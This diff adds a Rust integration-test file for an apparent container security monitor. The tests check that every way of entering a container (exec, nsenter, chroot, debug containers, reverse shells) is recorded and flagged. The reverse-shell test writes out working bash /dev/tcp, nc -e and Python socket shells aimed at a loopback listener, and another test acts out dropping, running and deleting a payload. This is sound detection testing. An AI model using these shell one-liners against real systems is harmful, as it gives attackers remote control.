@@ -1,0 +1,691 @@
+//! Who is inside: people and tools that come into a container, by every road, and
+//! what they do there.
+
+use std::io::{Read as _, Write as _};
+use std::net::TcpListener;
+use std::path::Path;
+use std::process::{Child, ChildStdin, Command, Stdio};
+use std::thread::{self, JoinHandle};
+use std::time::{Duration, Instant};
+
+use anyhow::{Context as _, ensure};
+use libtest_mimic::Trial;
+use serde_json::Value;
+
+use crate::node::{Container, DEADLINE, Node, Setup, bench, only, wait_for, wait_within};
+use crate::{programs, trial, trial_alone, trial_on};
+
+/// Commands are watched for a rhythm, as they are out of the box.
+const WATCHFUL: &str = "probe_patience = \"30s\"";
+const POD_NODE: Setup =
+    Setup { driftd: WATCHFUL, cri: Some(""), own_runtime: false, unwatched: None };
+const PYTHON: &str = "docker.io/driftd/python:1";
+
+pub(crate) fn trials() -> Vec<Trial> {
+    vec![
+        trial("a28_a_person_at_a_terminal_is_one_session_with_its_commands", a28_person),
+        trial("a29_an_exec_is_a_session_with_its_exec_id_and_its_end", a29_exec),
+        trial("a28_a_runtime_run_by_hand_is_told_as_that", a28_by_hand),
+        trial("a30_nsenter_into_all_or_one_namespace_is_told", a30_nsenter),
+        trial("a_root_directory_is_entered_by_chroot", by_chroot),
+        trial("a32_reverse_shells_are_sessions_with_their_commands", a32_reverse_shells),
+        trial("a_terminal_opened_later_is_told", pseudo_terminal),
+        trial("a_terminal_of_init_is_no_session", terminal_of_init),
+        trial("b24_a_copy_is_told_and_no_more", b24_copy),
+        trial("a_session_is_told_as_a_story", story),
+        trial("what_a_session_leaves_behind_names_it", left_behind),
+        trial("an_exec_that_fails_is_no_open_session", failed_exec),
+        trial_alone("sessions_go_on_over_a_restart_and_are_found_after_one", "", over_restart),
+        trial_alone("two_hundred_sessions_are_open_at_once", "", two_hundred),
+        trial_alone("a_thousand_execs_of_a_millisecond_are_a_thousand_sessions", "", a_thousand),
+        trial_on("b15_a_probe_of_a_pod_is_counted_and_not_reported", POD_NODE, b15_probe),
+        trial_on("a31_a_container_beside_another_is_a_session", POD_NODE, a31_debug),
+    ]
+}
+
+/// The sessions of a container, oldest first.
+fn sessions(container: &Container<'_>) -> anyhow::Result<Vec<Value>> {
+    let mut sessions = container.node.answer(&["sessions", "-c", &container.id])?;
+    sessions.sort_by_key(|session| session["started_at"].as_str().map(str::to_owned));
+    Ok(sessions)
+}
+
+/// Waits until exactly `count` sessions are there and all are closed.
+fn closed(container: &Container<'_>, count: usize) -> anyhow::Result<Vec<Value>> {
+    let mut seen = Vec::new();
+    let waited = wait_for("the sessions", || {
+        seen = sessions(container)?;
+        let all = seen.iter().all(|session| session["state"] == "closed");
+        Ok((all && seen.len() == count).then_some(()))
+    });
+    ensure!(waited.is_ok(), "{count} closed sessions were expected, and there are {seen:#?}");
+    Ok(seen)
+}
+
+/// A session with its commands and findings.
+fn story_of(node: &Node, session: &Value) -> anyhow::Result<Value> {
+    let id = session["id"].as_str().context("a session has an ID")?;
+    node.answer(&["show", id])?.into_iter().next().context("no story")
+}
+
+/// What a session ran, by its arguments.
+fn commands(story: &Value) -> Vec<String> {
+    let words = |command: &Value| match command["argv"].as_array() {
+        Some(argv) => argv.iter().filter_map(Value::as_str).collect::<Vec<_>>().join(" "),
+        None => "?".to_owned(),
+    };
+    story["commands"].as_array().into_iter().flatten().map(words).collect()
+}
+
+/// `ctr task exec` with these options and this command.
+fn exec(container: &Container<'_>, options: &[&str], command: &[&str]) -> Vec<String> {
+    let fifo = container.node.path("fifo").display().to_string();
+    let begin = ["task", "exec", "--fifo-dir", &fifo];
+    let id = [container.id.as_str()];
+    let all = begin.iter().chain(options).chain(&id).chain(command);
+    all.map(|word| (*word).to_owned()).collect()
+}
+
+/// Runs it and waits for its end.
+fn run(container: &Container<'_>, options: &[&str], command: &[&str]) -> anyhow::Result<String> {
+    let all = exec(container, options, command);
+    container.node.ctr(&all.iter().map(String::as_str).collect::<Vec<_>>())
+}
+
+/// Runs it, whatever its end is.
+fn try_run(
+    container: &Container<'_>,
+    options: &[&str],
+    command: &[&str],
+) -> anyhow::Result<std::process::Output> {
+    let all = exec(container, options, command);
+    let all: Vec<&str> = all.iter().map(String::as_str).collect();
+    Ok(container.node.ctr_command(&all)?.output()?)
+}
+
+/// Somebody at a terminal. `script` gives a command the terminal that a person at a
+/// keyboard has.
+struct Person {
+    child: Child,
+    keyboard: Option<ChildStdin>,
+}
+
+impl Person {
+    fn at(command: &str) -> anyhow::Result<Person> {
+        let mut child = Command::new(programs::find("script")?)
+            .args(["-qec", command, "/dev/null"])
+            .stdin(Stdio::piped())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()?;
+        let keyboard = child.stdin.take();
+        Ok(Person { child, keyboard })
+    }
+
+    /// In a shell that `ctr` has started in a container.
+    fn in_container(container: &Container<'_>, name: &str) -> anyhow::Result<Person> {
+        let node = container.node;
+        Person::at(&format!(
+            "{} --address {} --namespace {} task exec --fifo-dir {} -t --exec-id {name} {} /bin/sh",
+            programs::find("ctr")?.display(),
+            node.path("containerd.sock").display(),
+            node.namespace,
+            node.path("fifo").display(),
+            container.id,
+        ))
+    }
+
+    fn types(&mut self, text: &str) -> anyhow::Result<()> {
+        let keyboard = self.keyboard.as_mut().context("has left")?;
+        Ok(keyboard.write_all(text.as_bytes())?)
+    }
+
+    /// Waits for the end of what was begun with `exit`.
+    fn leaves(&mut self) -> anyhow::Result<()> {
+        wait_for("the person to leave", || Ok(self.child.try_wait()?)).map(drop)
+    }
+}
+
+impl Drop for Person {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// Waits until a file that a session has made is there.
+fn made(container: &Container<'_>, name: &str) -> anyhow::Result<()> {
+    let path = container.laid(name);
+    wait_for(name, || Ok(path.exists().then_some(())))
+}
+
+fn a28_person(node: &Node) -> anyhow::Result<()> {
+    let container = node.container()?;
+    let mut person = Person::in_container(&container, "person")?;
+    // Sub-shells and a second shell in it are the same session.
+    person.types("/bin/ls /\n(/bin/cat /etc/passwd)\n/bin/bash -c '/bin/ls /etc; exit 3'\n")?;
+    person.types("touch /.control/here\n")?;
+    made(&container, "here")?;
+    let open = sessions(&container)?;
+    assert_eq!(open.len(), 1, "{open:#?}");
+    assert_eq!((&open[0]["state"], &open[0]["ended_at"]), (&"open".into(), &Value::Null));
+    person.types("exec /bin/bash\nexit 5\n")?;
+    person.leaves()?;
+
+    let session = &closed(&container, 1)?[0];
+    assert_eq!(session["schema"], "driftd.session/v1");
+    assert_eq!(
+        (&session["entry"], &session["exec_id"]),
+        (&"runtime_exec".into(), &"person".into())
+    );
+    assert_eq!(
+        (&session["interactive"], &session["client"]),
+        (&"terminal".into(), &"containerd".into())
+    );
+    assert_eq!(session["exit"]["code"], 5, "{session:#}");
+    ensure!(session["process"]["tty"].as_str().is_some_and(|tty| tty.starts_with("pts/")));
+    let shim = session["process"]["ancestors"][0]["exe"].as_str().unwrap_or_default();
+    ensure!(shim.ends_with("runc") || shim.contains("containerd-shim"), "{session:#}");
+    let story = story_of(node, session)?;
+    let commands = commands(&story);
+    let expected = [
+        "/bin/sh",
+        "/bin/ls /",
+        "/bin/cat /etc/passwd",
+        "/bin/bash -c /bin/ls /etc; exit 3",
+        "/bin/ls /etc",
+        "touch /.control/here",
+        "/bin/bash",
+    ];
+    assert_eq!(commands, expected, "{story:#}");
+    let exits = story["commands"].as_array().context("commands")?;
+    assert_eq!(exits[3]["exit"]["code"], 3, "{story:#}");
+
+    // One session is one finding, however often its shell becomes another.
+    let findings = container.told(&["medium session.interactive"])?;
+    let finding = only(&findings, "session.interactive")?;
+    assert_eq!((&finding["session"], &finding["count"]), (&session["id"], &1.into()));
+    assert_eq!(session["finding"], finding["id"]);
+    assert_eq!(finding["last_seen"], session["ended_at"]);
+    Ok(())
+}
+
+fn a29_exec(node: &Node) -> anyhow::Result<()> {
+    let container = node.container()?;
+    let command = ["/bin/sh", "-c", "/bin/ls /; exit 7"];
+    let ended = try_run(&container, &["--exec-id", "copy"], &command)?;
+    assert_eq!(ended.status.code(), Some(7));
+    let session = &closed(&container, 1)?[0];
+    assert_eq!((&session["entry"], &session["exec_id"]), (&"runtime_exec".into(), &"copy".into()));
+    assert_eq!((&session["interactive"], &session["exit"]["code"]), (&Value::Null, &7.into()));
+    assert_eq!(commands(&story_of(node, session)?), ["/bin/sh -c /bin/ls /; exit 7", "/bin/ls /"]);
+    let findings = container.told(&["info session.exec"])?;
+    assert_eq!(only(&findings, "session.exec")?["session"], session["id"]);
+    Ok(())
+}
+
+/// `runc exec` and what follows.
+fn runc(container: &Container<'_>, rest: &str) -> anyhow::Result<String> {
+    let root = Path::new("/run/containerd/runc").join(&container.node.namespace);
+    let runc = programs::find("runc")?;
+    Ok(format!("{} --root {} exec {rest}", runc.display(), root.display()))
+}
+
+fn a28_by_hand(node: &Node) -> anyhow::Result<()> {
+    let container = node.container()?;
+    let mut person = Person::at(&runc(&container, &format!("-t {} /bin/sh", container.id))?)?;
+    person.types("/bin/ls /\nexit 4\n")?;
+    person.leaves()?;
+    let session = &closed(&container, 1)?[0];
+    assert_eq!((&session["entry"], &session["exec_id"]), (&"runtime_direct".into(), &Value::Null));
+    assert_eq!(session["interactive"], "terminal");
+    ensure!([4.into(), Value::Null].contains(&session["exit"]["code"]), "{session:#}");
+    // Who has called it is on the host.
+    let callers = format!("{}{}", session["process"]["ancestors"], session["host"]);
+    ensure!(callers.contains("runc") && callers.contains("script"), "{session:#}");
+    assert_eq!(commands(&story_of(node, session)?), ["/bin/sh", "/bin/ls /"]);
+    container.told(&["medium session.interactive"]).map(drop)
+}
+
+/// The first process of a container, as the host numbers it.
+fn init(container: &Container<'_>) -> anyhow::Result<u64> {
+    let known = container.node.answer(&["containers"])?;
+    let own = known.iter().find(|known| known["id"] == container.id.as_str());
+    own.and_then(|own| own["pid"].as_u64()).context("no such container")
+}
+
+fn a30_nsenter(node: &Node) -> anyhow::Result<()> {
+    let cases: [(&str, &[&str], &str); 4] = [
+        ("all", &["-m", "-u", "-i", "-n", "-p"], "/bin/ls"),
+        ("mount", &["-m"], "/bin/ls"),
+        ("pid", &["-p"], "/bin/true"),
+        ("pid-and-mount", &["-m", "-p"], "/bin/ls"),
+    ];
+    for (name, options, program) in cases {
+        let container = node.container()?;
+        let status = Command::new(programs::find("nsenter")?)
+            .args(["-t", &init(&container)?.to_string()])
+            .args(options)
+            .args([program, "/"])
+            .stdout(Stdio::null())
+            .stdin(Stdio::null())
+            .status()?;
+        ensure!(status.success(), "{name}: {status}");
+        let session = &closed(&container, 1).context(name)?[0];
+        assert_eq!(session["entry"], "namespace", "{name}: {session:#}");
+        assert_eq!(session["client"], Value::Null, "{name}: {session:#}");
+        let findings = container.told(&["high namespace.entered"]).context(name)?;
+        let finding = only(&findings, "namespace.entered")?;
+        assert_eq!(
+            (&finding["session"], &finding["attack"]["technique"]),
+            (&session["id"], &"T1611".into())
+        );
+    }
+    // With a terminal it is a person as well.
+    let container = node.container()?;
+    let nsenter = programs::find("nsenter")?;
+    let mut person =
+        Person::at(&format!("{} -t {} -m -p /bin/sh", nsenter.display(), init(&container)?))?;
+    person.types("/bin/ls /\nexit\n")?;
+    person.leaves()?;
+    closed(&container, 1)?;
+    container.told(&["high namespace.entered", "medium session.interactive"]).map(drop)
+}
+
+fn by_chroot(node: &Node) -> anyhow::Result<()> {
+    let container = node.container()?;
+    let root = format!("/proc/{}/root", init(&container)?);
+    let status = Command::new(programs::find("chroot")?)
+        .args([&root, "/bin/sh", "-c", "/bin/ls / >/dev/null; /bin/ls /etc >/dev/null"])
+        .stdin(Stdio::null())
+        .status()?;
+    ensure!(status.success(), "{status}");
+    let session = &closed(&container, 1)?[0];
+    assert_eq!(session["entry"], "namespace", "{session:#}");
+    container.told(&["high namespace.entered"]).map(drop)
+}
+
+/// The workbench with Python in it.
+fn import_python(node: &Node) -> anyhow::Result<()> {
+    let mut layers = programs::workbench(&bench()?.payload)?;
+    layers.push(programs::python()?);
+    node.import_layers(PYTHON, layers).map(drop)
+}
+
+/// A listener on the loopback that types into whoever connects, and the port.
+fn listen(text: &'static str) -> anyhow::Result<(u16, JoinHandle<anyhow::Result<()>>)> {
+    let listener = TcpListener::bind("127.0.0.1:0")?;
+    let port = listener.local_addr()?.port();
+    let thread = thread::spawn(move || {
+        let (mut connection, _) = listener.accept()?;
+        // The shell is seen before it is told anything.
+        thread::sleep(Duration::from_secs(3));
+        connection.write_all(text.as_bytes())?;
+        connection.set_read_timeout(Some(DEADLINE))?;
+        let mut answers = Vec::new();
+        let _ = connection.read_to_end(&mut answers);
+        Ok(())
+    });
+    Ok((port, thread))
+}
+
+fn a32_reverse_shells(node: &Node) -> anyhow::Result<()> {
+    import_python(node)?;
+    let dial = |port: u16| {
+        [
+            ("bash", format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'")),
+            ("nc", format!("busybox nc 127.0.0.1 {port} -e /bin/sh")),
+            (
+                "python",
+                format!(
+                    "/usr/bin/python3 -c 'import os,pty,socket; s=socket.create_connection(\
+                     (\"127.0.0.1\",{port})); [os.dup2(s.fileno(),n) for n in (0,1,2)]; \
+                     os.execv(\"/bin/sh\",[\"sh\",\"-i\"])'"
+                ),
+            ),
+        ]
+    };
+    for kind in 0..3 {
+        let container = node.container_on_host_network(PYTHON)?;
+        let (port, listener) = listen("/bin/ls /\nexit\n")?;
+        let (name, command) = &dial(port)[kind];
+        let running = container.begin(&format!("{command} || true"))?;
+        running.finish(DEADLINE).context(*name)?;
+        listener.join().ok().context("the listener")??;
+        let session = &closed(&container, 1).context(*name)?[0];
+        assert_eq!(session["entry"], "reverse_shell", "{name}: {session:#}");
+        assert_eq!(session["interactive"], "socket", "{name}: {session:#}");
+        let commands = commands(&story_of(node, session)?);
+        ensure!(commands.contains(&"/bin/ls /".to_owned()), "{name}: {commands:?}");
+        let findings = container.told(&["critical shell.reverse"]).context(*name)?;
+        let finding = only(&findings, "shell.reverse")?;
+        assert_eq!((&finding["session"], &session["finding"]), (&session["id"], &finding["id"]));
+    }
+    Ok(())
+}
+
+fn pseudo_terminal(node: &Node) -> anyhow::Result<()> {
+    import_python(node)?;
+    let container = node.container_of(PYTHON)?;
+    run(
+        &container,
+        &["--exec-id", "pty"],
+        &[
+            "/usr/bin/python3",
+            "-c",
+            "import pty; pty.spawn([\"/bin/sh\",\"-c\",\"/bin/ls /; exec /bin/sleep 1\"])",
+        ],
+    )?;
+    let session = &closed(&container, 1)?[0];
+    assert_eq!(session["interactive"], "terminal_later", "{session:#}");
+    let findings = container.findings()?;
+    let finding = only(&findings, "session.interactive")?;
+    assert_eq!(finding["session"], session["id"]);
+    Ok(())
+}
+
+fn terminal_of_init(node: &Node) -> anyhow::Result<()> {
+    let id = node.next_id();
+    node.own_container(&id);
+    let image = crate::programs::WORKBENCH;
+    let fifo = node.path("fifo");
+    // `ctr` is not at a terminal itself; its container's init is.
+    let mut person = Person::at(&format!(
+        "{} --address {} --namespace {} run --fifo-dir {} --runc-root {} -t {image} {id} /bin/sh",
+        programs::find("ctr")?.display(),
+        node.path("containerd.sock").display(),
+        node.namespace,
+        fifo.display(),
+        Path::new("/run/containerd/runc").join(&node.namespace).display(),
+    ))?;
+    wait_for("driftd to watch it", || {
+        let known = node.answer(&["containers"])?;
+        Ok(known
+            .iter()
+            .any(|known| known["id"] == id.as_str() && known["baseline"] == "ready")
+            .then_some(()))
+    })?;
+    person.types("/bin/ls /\n/bin/bash -c '/bin/ls /etc'\n")?;
+    thread::sleep(Duration::from_secs(1));
+    assert_eq!(node.answer(&["sessions", "-c", &id])?, Vec::<Value>::new());
+    assert_eq!(node.answer(&["findings", "-c", &id])?, Vec::<Value>::new());
+    person.types("exit\n")?;
+    person.leaves()
+}
+
+fn b24_copy(node: &Node) -> anyhow::Result<()> {
+    let container = node.container()?;
+    container.sh("echo data > /tmp/data")?;
+    run(&container, &["--exec-id", "cp"], &["/bin/tar", "cf", "-", "/tmp/data"])?;
+    closed(&container, 1)?;
+    container.told(&["info session.exec"]).map(drop)
+}
+
+fn left_behind(node: &Node) -> anyhow::Result<()> {
+    let container = node.container()?;
+    container.lay_payload("x")?;
+    // Its parents have ended long before it runs what was dropped.
+    let script =
+        "(/bin/sleep 2; cp /.control/x /tmp/x; /tmp/x) >/dev/null 2>&1 </dev/null & exit 0";
+    run(&container, &["--exec-id", "left"], &["/bin/sh", "-c", script])?;
+    let session = closed(&container, 1)?.remove(0);
+    let findings = container.told(&["critical exec.new /tmp/x", "info session.exec"])?;
+    let run = only(&findings, "exec.new")?;
+    assert_eq!(run["session"], session["id"], "{run:#}");
+    let session = &sessions(&container)?[0];
+    assert_eq!(session["findings"], serde_json::json!([run["id"]]), "{session:#}");
+    Ok(())
+}
+
+fn failed_exec(node: &Node) -> anyhow::Result<()> {
+    let container = node.container()?;
+    for (name, program) in [("missing", "/bin/no-such-program"), ("data", "/etc/passwd")] {
+        let ended = try_run(&container, &["--exec-id", name], &[program])?;
+        ensure!(!ended.status.success(), "{program} can be executed");
+    }
+    // A canary behind them: whatever they have left open would be there by then.
+    run(&container, &["--exec-id", "good"], &["/bin/ls", "/"])?;
+    let seen = wait_for("the last session", || {
+        let seen = sessions(&container)?;
+        let is_there = seen.iter().any(|session| session["exec_id"] == "good");
+        Ok((is_there && seen.iter().all(|one| one["state"] == "closed")).then_some(seen))
+    })?;
+    ensure!(seen.len() <= 3, "{seen:#?}");
+    Ok(())
+}
+
+fn over_restart(node: &Node) -> anyhow::Result<()> {
+    let container = node.container()?;
+    let mut known = Person::in_container(&container, "known")?;
+    known.types("touch /.control/one\n")?;
+    made(&container, "one")?;
+    let before = wait_for("the session", || {
+        let open = sessions(&container)?;
+        Ok(open.first().is_some_and(|session| session["commands"] == 2).then_some(open))
+    })?;
+    node.stop_driftd()?;
+    let mut unseen = Person::in_container(&container, "unseen")?;
+    unseen.types("touch /.control/two\n")?;
+    made(&container, "two")?;
+    node.start_driftd()?;
+    container.wait_until_watched()?;
+    let after = wait_for("both sessions", || {
+        let open = sessions(&container)?;
+        Ok((open.len() == 2).then_some(open))
+    })?;
+    let own = after.iter().find(|session| session["id"] == before[0]["id"]);
+    let own = own.context("the session that was known has another name now")?;
+    assert_eq!((&own["state"], &own["discovered"]), (&"open".into(), &"gate".into()));
+    let found = after.iter().find(|session| session["id"] != before[0]["id"]).context("one")?;
+    assert_eq!((&found["discovered"], &found["entry"]), (&"scan".into(), &"runtime_exec".into()));
+    // Both go on.
+    for person in [&mut known, &mut unseen] {
+        person.types("/bin/ls /\nexit\n")?;
+        person.leaves()?;
+    }
+    for session in closed(&container, 2)? {
+        let commands = commands(&story_of(node, &session)?);
+        assert_eq!(commands.last().map(String::as_str), Some("/bin/ls /"), "{session:#}");
+    }
+    Ok(())
+}
+
+fn two_hundred(node: &Node) -> anyhow::Result<()> {
+    const SESSIONS: usize = 200;
+    let container = node.container()?;
+    for number in 0..SESSIONS {
+        let (name, seconds) = (format!("s{number}"), format!("{}", 4000 + number));
+        run(&container, &["-d", "--exec-id", &name], &["/bin/sleep", &seconds])?;
+    }
+    let open = wait_for("the sessions", || {
+        let open = node.answer(&["sessions", "-c", &container.id, "--open"])?;
+        let named = open.iter().filter(|session| session["exec_id"].is_string()).count();
+        Ok((named == SESSIONS).then_some(open))
+    })?;
+    let mut told: Vec<String> =
+        open.iter().map(|session| session["process"]["argv"].to_string()).collect();
+    told.sort();
+    let mut expected: Vec<String> =
+        (0..SESSIONS).map(|number| format!("[\"/bin/sleep\",\"{}\"]", 4000 + number)).collect();
+    expected.sort();
+    assert_eq!(told, expected);
+    container.stop()?;
+    closed(&container, SESSIONS).map(drop)
+}
+
+fn a_thousand(node: &Node) -> anyhow::Result<()> {
+    const EXECS: usize = 1000;
+    let container = node.container()?;
+    let root = Path::new("/run/containerd/runc").join(&node.namespace);
+    let runc = programs::find("runc")?;
+    let began = Instant::now();
+    for number in 0..EXECS {
+        let status = Command::new(&runc)
+            .arg("--root")
+            .arg(&root)
+            .args(["exec", &container.id, "/bin/busybox", "true", &number.to_string()])
+            .stdin(Stdio::null())
+            .status()?;
+        ensure!(status.success(), "exec {number}: {status}");
+    }
+    eprintln!("{EXECS} execs took {:?}", began.elapsed());
+    let mut told = Vec::new();
+    let waited = wait_within(Duration::from_secs(60), "the sessions", || {
+        told = sessions(&container)?;
+        let all = told.iter().all(|session| session["state"] == "closed");
+        Ok((told.len() == EXECS && all).then_some(()))
+    });
+    let arguments = |session: &Value| session["process"]["argv"].to_string();
+    let mut seen: Vec<String> = told.iter().map(arguments).collect();
+    seen.sort();
+    let mut expected: Vec<String> =
+        (0..EXECS).map(|number| format!("[\"/bin/busybox\",\"true\",\"{number}\"]")).collect();
+    expected.sort();
+    let missing: Vec<&String> = expected.iter().filter(|one| !seen.contains(one)).collect();
+    ensure!(
+        waited.is_ok() && missing.is_empty(),
+        "{} sessions, {} of them without their arguments or not told: {missing:?}",
+        told.len(),
+        missing.len(),
+    );
+    let ends = told.iter().filter(|session| session["exit"]["code"] == 0).count();
+    eprintln!("how it ended is known of {ends} of {EXECS}");
+    Ok(())
+}
+
+fn b15_probe(node: &Node) -> anyhow::Result<()> {
+    let image = crate::registry::publish(&bench()?.workbench, "shop/workbench:1")?;
+    node.cri().pull(&image)?;
+    let (sandbox, container) = node.pod_of(&image)?;
+    let until = Instant::now() + Duration::from_secs(30);
+    let mut times = 0;
+    while Instant::now() < until {
+        let began = Instant::now();
+        let probe = ["/bin/sh", "-c", "/bin/cat /etc/passwd"];
+        let (code, _) = node.cri().exec_sync(&container.id, &probe)?;
+        assert_eq!(code, 0);
+        times += 1;
+        thread::sleep(Duration::from_millis(200).saturating_sub(began.elapsed()));
+    }
+    let probe = wait_for("all of them to be counted", || {
+        let probes = node.answer(&["probes", "-c", &container.id])?;
+        ensure!(probes.len() < 2, "{probes:#?}");
+        Ok(probes.into_iter().find(|probe| probe["count"] == times))
+    })?;
+    assert_eq!((&probe["source"], &probe["reported"]), (&"learned".into(), &false.into()));
+    assert_eq!(probe["container"]["pod"]["namespace"], "shop", "{probe:#}");
+    assert_eq!(container.findings()?, Vec::<Value>::new());
+    // What it was before it was known for a probe is told of whom it is.
+    for session in sessions(&container)? {
+        assert_eq!(session["client"], "cri");
+        assert_eq!(session["container"]["pod"]["container"], "app", "{session:#}");
+        ensure!(session["image"]["manifest_digest"].is_string(), "{session:#}");
+    }
+    // Made to be reported, the next one is.
+    let id = probe["id"].as_str().context("an ID")?;
+    let set = node.driftd(&["probes", "report", id])?;
+    ensure!(set.status.success(), "{set:?}");
+    node.cri().exec_sync(&container.id, &["/bin/sh", "-c", "/bin/cat /etc/passwd"])?;
+    wait_within(Duration::from_secs(60), "the finding", || {
+        let findings = container.findings()?;
+        Ok(findings.iter().any(|one| one["kind"] == "session.exec").then_some(()))
+    })?;
+    node.cri().remove_pod_sandbox(&sandbox)
+}
+
+fn a31_debug(node: &Node) -> anyhow::Result<()> {
+    let image = crate::registry::publish(&bench()?.workbench, "shop/workbench:1")?;
+    node.cri().pull(&image)?;
+    let (sandbox, container) = node.pod_of(&image)?;
+    let debugger = node.debug_container(&sandbox, &container.id, &image)?;
+    let session = wait_for("the session", || {
+        Ok(node.answer(&["sessions", "-c", &debugger])?.into_iter().next())
+    })?;
+    assert_eq!(session["entry"], "shared_pid_namespace", "{session:#}");
+    assert_eq!(session["interactive"], "terminal", "{session:#}");
+    let findings = wait_for("the finding", || {
+        let findings = node.answer(&["findings", "-c", &debugger])?;
+        Ok((!findings.is_empty()).then_some(findings))
+    })?;
+    let finding = only(&findings, "session.interactive")?;
+    assert_eq!(finding["session"], session["id"]);
+    // The container beside which it was put has none.
+    assert_eq!(sessions(&container)?, Vec::<Value>::new());
+    node.cri().remove_pod_sandbox(&sandbox)
+}
+
+/// Times, numbers of processes and IDs are other ones each time.
+fn reviewed(text: &str) -> String {
+    let mut lines = Vec::new();
+    for line in text.lines() {
+        let mut words: Vec<String> = line.split(' ').map(str::to_owned).collect();
+        for word in &mut words {
+            let bare = word.trim_matches(|c: char| "[]():,".contains(c)).to_owned();
+            let is_hex = bare.len() >= 12 && bare.bytes().all(|byte| byte.is_ascii_hexdigit());
+            let is_time = bare.len() >= 8 && bare.bytes().filter(|byte| *byte == b':').count() == 2;
+            let is_date =
+                bare.len() == 10 && bare.bytes().filter(|byte| *byte == b'-').count() == 2;
+            if is_hex {
+                *word = word.replace(&bare, "ID");
+            } else if is_time {
+                *word = word.replace(&bare, "TIME");
+            } else if is_date {
+                *word = word.replace(&bare, "DATE");
+            } else if bare.starts_with("pts/") {
+                *word = word.replace(&bare, "pts/N");
+            }
+        }
+        let line = words.join(" ");
+        // How long it took.
+        let line = match line.split_once(" after ") {
+            Some((before, after)) if after.ends_with(')') => format!("{before} after A WHILE)"),
+            Some((before, _)) => format!("{before} after A WHILE"),
+            None => line,
+        };
+        lines.push(line);
+    }
+    lines.join("\n")
+}
+
+fn story(node: &Node) -> anyhow::Result<()> {
+    let container = node.container()?;
+    container.lay_payload("payload")?;
+    let mut person = Person::in_container(&container, "intruder")?;
+    // As somebody would who fetches a program, runs it and covers the traces.
+    for command in [
+        "/bin/cat /.control/payload > /tmp/.x",
+        "/bin/chmod 755 /tmp/.x",
+        "/tmp/.x",
+        "/bin/rm /tmp/.x",
+        "touch /.control/done-here",
+    ] {
+        person.types(&format!("{command}\n"))?;
+        thread::sleep(Duration::from_millis(300));
+    }
+    made(&container, "done-here")?;
+    person.types("exit 0\n")?;
+    person.leaves()?;
+    let session = closed(&container, 1)?.remove(0);
+    let findings = container.told(&["critical exec.new /tmp/.x", "medium session.interactive"])?;
+    let run = only(&findings, "exec.new")?;
+    // Linked both ways.
+    assert_eq!(run["session"], session["id"]);
+    let session = &sessions(&container)?[0];
+    assert_eq!(session["findings"], serde_json::json!([run["id"]]), "{session:#}");
+
+    let output = node.driftd(&["timeline", &container.id])?;
+    let text = String::from_utf8(output.stdout)?;
+    let expected = "\
+DATE TIME UTC  [ID] session opened: runtime exec, terminal pts/N, uid 0: /bin/sh
+DATE TIME UTC    [ID] MEDIUM session.interactive /bin/sh (ID)
+DATE TIME UTC    [ID] #1 /bin/sh (exit 0 after A WHILE)
+DATE TIME UTC    [ID] #2 /bin/cat /.control/payload (exit 0 after A WHILE)
+DATE TIME UTC    [ID] #3 /bin/chmod 755 /tmp/.x (exit 0 after A WHILE)
+DATE TIME UTC    [ID] #4 /tmp/.x (exit 0 after A WHILE)
+DATE TIME UTC    [ID] CRITICAL exec.new /tmp/.x (ID)
+DATE TIME UTC    [ID] #5 /bin/rm /tmp/.x (exit 0 after A WHILE)
+DATE TIME UTC    [ID] #6 touch /.control/done-here (exit 0 after A WHILE)
+DATE TIME UTC  [ID] session closed: exit 0 after A WHILE";
+    assert_eq!(reviewed(&text), expected, "{text}");
+    Ok(())
+}
